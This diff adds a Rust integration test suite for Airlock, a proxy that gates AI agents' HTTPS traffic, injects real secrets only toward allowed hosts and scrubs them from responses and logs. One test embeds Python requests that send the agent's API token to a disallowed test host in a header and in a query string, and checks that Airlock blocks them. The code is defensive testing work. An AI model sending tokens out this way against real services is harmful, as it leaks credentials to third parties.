@@ -1,0 +1,378 @@
+//! TLS interception, policies and credentials, end to end: real agents
+//! (Node, curl, Python requests) under `airlock run`, a real HTTPS upstream
+//! with its own CA on loopback, names resolved by Airlock's resolver.
+
+mod harness;
+
+use std::time::Duration;
+
+use harness::{Daemon, DaemonOptions, describe, stdout, upstream::TlsUpstream};
+
+const PY: &str = "/usr/bin/python3";
+const SECRET: &str = "s3cr3t-Value-0123456789abcdef";
+const PLACEHOLDER: &str = "airlock-ph-api-token";
+
+struct Setup {
+    d: Daemon,
+    up: TlsUpstream,
+}
+
+fn setup(extra_rules: &str) -> Setup {
+    let dir = tempfile::tempdir().expect("upstream dir");
+    let up = TlsUpstream::start(dir.path(), &["api.example.test", "other.example.test"]);
+    let p = up.port;
+    let ca = dir.keep().join("upstream-ca.pem");
+    let policy = format!(
+        r#"agent: web-bot
+env:
+  API_TOKEN: "{{{{ placeholder: api-token }}}}"
+rules:
+  - host: api.example.test:{p}
+    methods: [GET, POST]
+    paths: ["/hello", "/echo", "/sse", "/ws", "/big"]
+    credentials:
+      - secret: api-token
+  - host: other.example.test:{p}
+    methods: [GET]
+{extra_rules}deny:
+  - host: api.example.test:{p}
+    paths: ["/admin/**"]
+"#
+    );
+    let d = Daemon::start(DaemonOptions {
+        policies: vec![("web-bot.yaml".into(), policy)],
+        extra_config: format!(
+            "resolve:\n  api.example.test: 127.0.0.1\n  other.example.test: 127.0.0.1\nupstream_ca: [{}]\napproval_timeout_secs: 3\n",
+            ca.display()
+        ),
+    });
+    d.secret_set("api-token", SECRET);
+    Setup { d, up }
+}
+
+fn assert_no_secret(what: &str, text: &str) {
+    assert!(
+        !text.contains(SECRET),
+        "{what} contains the real secret:\n{text}"
+    );
+}
+
+#[test]
+fn clients_get_answers_and_only_the_upstream_sees_the_secret() {
+    let Setup { d, up } = setup("");
+    let url = format!("https://api.example.test:{}/echo", up.port);
+    let auth = "Authorization: Bearer $API_TOKEN";
+    let curl_h1 = format!("curl -sS --fail-with-body --http1.1 -H \"{auth}\" {url}");
+    let curl_h2 = format!("curl -sS --fail-with-body --http2 -H \"{auth}\" {url}");
+    let node_fetch = format!(
+        "fetch('{url}', {{headers: {{authorization: 'Bearer ' + process.env.API_TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('error', e.cause || e); process.exit(1) }})"
+    );
+    let node_https = format!(
+        "require('https').get('{url}', {{headers: {{authorization: 'Bearer ' + process.env.API_TOKEN}}}}, r => {{ let b = ''; r.on('data', c => b += c); r.on('end', () => console.log(r.statusCode, b)) }}).on('error', e => {{ console.log('error', e); process.exit(1) }})"
+    );
+    let python = format!(
+        "import os, requests\nr = requests.get('{url}', headers={{'Authorization': 'Bearer ' + os.environ['API_TOKEN']}}, timeout=10)\nprint(r.status_code, r.text)\n"
+    );
+    let runs: Vec<(&str, Vec<String>)> = vec![
+        ("curl http/1.1", vec!["sh".into(), "-c".into(), curl_h1]),
+        ("curl --http2", vec!["sh".into(), "-c".into(), curl_h2]),
+        ("node fetch", vec!["node".into(), "-e".into(), node_fetch]),
+        ("node https", vec!["node".into(), "-e".into(), node_https]),
+        ("python requests", vec![PY.into(), "-c".into(), python]),
+    ];
+    for (name, cmd) in &runs {
+        let before = up.seen().len();
+        let args: Vec<&str> = cmd.iter().map(String::as_str).collect();
+        let out = d.run_agent_dns("web-bot", &args);
+        let text = stdout(&out);
+        assert!(out.status.success(), "{name}: {}", describe(&out));
+        assert!(
+            text.contains("\"path\":\"/echo\""),
+            "{name} got no echo: {}",
+            describe(&out)
+        );
+        // The echo reflected the Authorization header; the agent sees the
+        // placeholder in its place.
+        assert!(text.contains(PLACEHOLDER), "{name}: {}", describe(&out));
+        assert_no_secret(name, &text);
+        assert_no_secret(name, &String::from_utf8_lossy(&out.stderr));
+        let seen = up.seen();
+        assert_eq!(seen.len(), before + 1, "{name}: upstream request count");
+        let last = seen.last().expect("seen");
+        assert_eq!(
+            last.header("authorization"),
+            Some(format!("Bearer {SECRET}").as_str()),
+            "{name}: the upstream did not receive the real secret\n{}",
+            d.log_text()
+        );
+    }
+    // HTTP/2 toward the agent where it asked for it.
+    let rec = d.wait_audit("for an https request", |r| {
+        r["proto"] == "https" && r["credentials"][0] == "api-token"
+    });
+    assert_eq!(rec["agent"], "web-bot");
+    assert_eq!(rec["action"], "allow");
+    assert_eq!(rec["status"], 200);
+    assert_no_secret(
+        "audit log",
+        &std::fs::read_to_string(&d.audit).unwrap_or_default(),
+    );
+    assert_no_secret("daemon log", &d.log_text());
+
+    // The agent's own environment holds only the placeholder.
+    let out = d.run_agent("web-bot", &["env"]);
+    let env = stdout(&out);
+    assert!(
+        env.contains(&format!("API_TOKEN={PLACEHOLDER}")),
+        "{}",
+        describe(&out)
+    );
+    assert_no_secret("the agent's environment", &env);
+    assert!(env.contains("NODE_EXTRA_CA_CERTS="), "{env}");
+    assert!(env.contains("SSL_CERT_FILE="), "{env}");
+}
+
+#[test]
+fn denials_get_the_403_json_and_placeholders_never_reach_other_hosts() {
+    let Setup { d, up } = setup("");
+    let p = up.port;
+    let py = format!(
+        r#"
+import os, requests, json
+tok = os.environ['API_TOKEN']
+def show(name, r):
+    try:
+        body = r.json()
+    except Exception:
+        body = {{}}
+    print(name, r.status_code, body.get('error'), body.get('reason'), body.get('method'), body.get('path'), body.get('agent'))
+show('path', requests.get('https://api.example.test:{p}/admin/users', timeout=10))
+show('method', requests.delete('https://api.example.test:{p}/hello', timeout=10))
+show('unlisted', requests.get('https://api.example.test:{p}/elsewhere', timeout=10))
+show('exfil', requests.get('https://other.example.test:{p}/hello', headers={{'Authorization': 'Bearer ' + tok}}, timeout=10))
+show('exfil-query', requests.get('https://other.example.test:{p}/hello?key=' + tok, timeout=10))
+show('clean', requests.get('https://other.example.test:{p}/hello', timeout=10))
+"#
+    );
+    let before = up.seen().len();
+    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
+    assert!(out.status.success(), "{}", describe(&out));
+    let lines: Vec<String> = stdout(&out).lines().map(str::to_owned).collect();
+    assert_eq!(
+        lines,
+        [
+            "path 403 denied deny_rule GET /admin/users web-bot",
+            "method 403 denied method_not_allowed DELETE /hello web-bot",
+            "unlisted 403 denied path_not_allowed GET /elsewhere web-bot",
+            "exfil 403 denied placeholder_not_allowed GET /hello web-bot",
+            &format!(
+                "exfil-query 403 denied placeholder_not_allowed GET /hello?key={PLACEHOLDER} web-bot"
+            ),
+            "clean 200 None None None None None",
+        ],
+        "{}",
+        describe(&out)
+    );
+    // Only the clean request reached the upstream.
+    let seen = up.seen();
+    assert_eq!(seen.len(), before + 1, "{seen:?}");
+    assert!(
+        seen.iter()
+            .all(|s| !s.path.contains(PLACEHOLDER) && s.header("authorization").is_none())
+    );
+    let rec = d.wait_audit("for the exfiltration attempt", |r| {
+        r["reason"] == "placeholder_not_allowed"
+    });
+    assert_eq!(rec["action"], "deny");
+    assert_eq!(rec["host"], "other.example.test");
+}
+
+#[test]
+fn an_echoed_secret_is_scrubbed_from_headers_and_body() {
+    let Setup { d, up } = setup("");
+    let url = format!("https://api.example.test:{}/echo", up.port);
+    // -i prints the response headers too: the upstream echoes the
+    // Authorization header back as x-echo-authorization.
+    let out = d.run_agent_dns(
+        "web-bot",
+        &[
+            "sh",
+            "-c",
+            &format!("curl -sS -i -H \"Authorization: Bearer $API_TOKEN\" {url}"),
+        ],
+    );
+    let text = stdout(&out);
+    assert!(out.status.success(), "{}", describe(&out));
+    assert!(
+        text.to_ascii_lowercase()
+            .contains(&format!("x-echo-authorization: bearer {PLACEHOLDER}").to_ascii_lowercase()),
+        "{text}"
+    );
+    assert_no_secret("the echoed response", &text);
+    assert_eq!(
+        up.seen()
+            .last()
+            .and_then(|s| s.header("authorization").map(str::to_owned)),
+        Some(format!("Bearer {SECRET}"))
+    );
+}
+
+#[test]
+fn an_sse_event_arrives_before_the_stream_ends_and_websockets_echo() {
+    let Setup { d, up } = setup("");
+    let p = up.port;
+    let node = format!(
+        r#"
+const t0 = Date.now();
+fetch('https://api.example.test:{p}/sse').then(async r => {{
+  const reader = r.body.getReader();
+  let first = null, text = '';
+  for (;;) {{
+    const {{done, value}} = await reader.read();
+    if (done) break;
+    if (first === null) first = Date.now() - t0;
+    text += Buffer.from(value).toString();
+  }}
+  console.log(first, Date.now() - t0, text.includes('first') && text.includes('second'));
+}}).catch(e => {{ console.log('error', e); process.exit(1) }});
+"#
+    );
+    let out = d.run_agent_dns("web-bot", &["node", "-e", &node]);
+    assert!(out.status.success(), "{}", describe(&out));
+    let text = stdout(&out);
+    let fields: Vec<&str> = text.split_whitespace().collect();
+    let first: u64 = fields[0].parse().expect("first");
+    let end: u64 = fields[1].parse().expect("end");
+    assert_eq!(fields[2], "true", "both events arrived: {text}");
+    assert!(end >= 1400, "the stream should last ~1.5 s: {text}");
+    assert!(
+        first + 1000 <= end,
+        "the first event waited for the end of the stream: {text}"
+    );
+
+    // A WebSocket-style upgrade, echoed by the upstream after the 101.
+    let py = format!(
+        r#"
+import socket, ssl, os
+ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
+s = ctx.wrap_socket(socket.create_connection(('api.example.test', {p}), timeout=10), server_hostname='api.example.test')
+s.sendall(b'GET /ws HTTP/1.1\r\nHost: api.example.test:{p}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n')
+head = b''
+while b'\r\n\r\n' not in head:
+    head += s.recv(1)
+print(head.split(b'\r\n')[0].decode())
+frame = bytes([0x81, 0x85, 1, 2, 3, 4]) + bytes(b ^ k for b, k in zip(b'hello', [1, 2, 3, 4, 1]))
+s.sendall(frame)
+got = b''
+while len(got) < len(frame):
+    got += s.recv(64)
+print('echo', got == frame)
+"#
+    );
+    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
+    assert_eq!(
+        stdout(&out).lines().collect::<Vec<_>>(),
+        ["HTTP/1.1 101 Switching Protocols", "echo True"],
+        "{}",
+        describe(&out)
+    );
+}
+
+#[test]
+fn a_policy_typo_leaves_the_old_policy_in_force() {
+    let Setup { d, up } = setup("");
+    let url = format!("https://api.example.test:{}/hello", up.port);
+    let get = || {
+        d.run_agent_dns(
+            "web-bot",
+            &["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", &url],
+        )
+    };
+    assert_eq!(stdout(&get()), "200");
+    let path = d.policy_dir.join("web-bot.yaml");
+    let good = std::fs::read_to_string(&path).expect("policy");
+    // A typo that, if half-applied, would drop the GET permission.
+    std::fs::write(
+        &path,
+        good.replace("methods: [GET, POST]", "methds: [POST]"),
+    )
+    .expect("edit");
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        let status = d.status().expect("status");
+        if let Some(err) = status["policies"]["errors"]
+            .as_array()
+            .and_then(|e| e.first())
+        {
+            let err = err.as_str().unwrap_or_default();
+            assert!(
+                err.contains("web-bot.yaml:") && err.contains("methds"),
+                "{err}"
+            );
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the typo was never reported: {status}"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let out = get();
+    assert_eq!(
+        stdout(&out),
+        "200",
+        "the previous policy is no longer in force: {}\n{}",
+        describe(&out),
+        d.log_text()
+    );
+    assert!(
+        d.metrics()
+            .contains("airlock_policy_reload_total{result=\"error\"}")
+    );
+    // `policy check` says the same offline, with line and column.
+    let out = std::process::Command::new(harness::AIRLOCK)
+        .args(["policy", "check"])
+        .arg(&path)
+        .output()
+        .expect("policy check");
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains(&format!("{}:", path.display())) && err.contains("methds"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_tampered_vault_is_refused_whole_with_a_clear_error() {
+    let Setup { d, .. } = setup("");
+    let vault = d.dir.path().join("state/vault.json");
+    let mut doc: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&vault).expect("vault")).expect("vault json");
+    let mut ct = doc["ciphertext"]
+        .as_str()
+        .expect("ciphertext")
+        .to_owned()
+        .into_bytes();
+    // Flip one base64 character in the middle: still valid base64, wrong tag.
+    let at = ct.len() / 2;
+    ct[at] = if ct[at] == b'A' { b'B' } else { b'A' };
+    doc["ciphertext"] = serde_json::Value::String(String::from_utf8(ct).expect("b64"));
+    std::fs::write(&vault, doc.to_string()).expect("tamper");
+    let out = std::process::Command::new(harness::AIRLOCK)
+        .args(["secret", "list", "--config"])
+        .arg(&d.config)
+        .output()
+        .expect("secret list");
+    assert!(!out.status.success(), "{}", describe(&out));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("vault.json") && err.contains("authenticated"),
+        "{err}"
+    );
+    assert!(
+        !stdout(&out).contains("api-token"),
+        "a partial vault was listed"
+    );
+    assert_no_secret("the error", &err);
+}
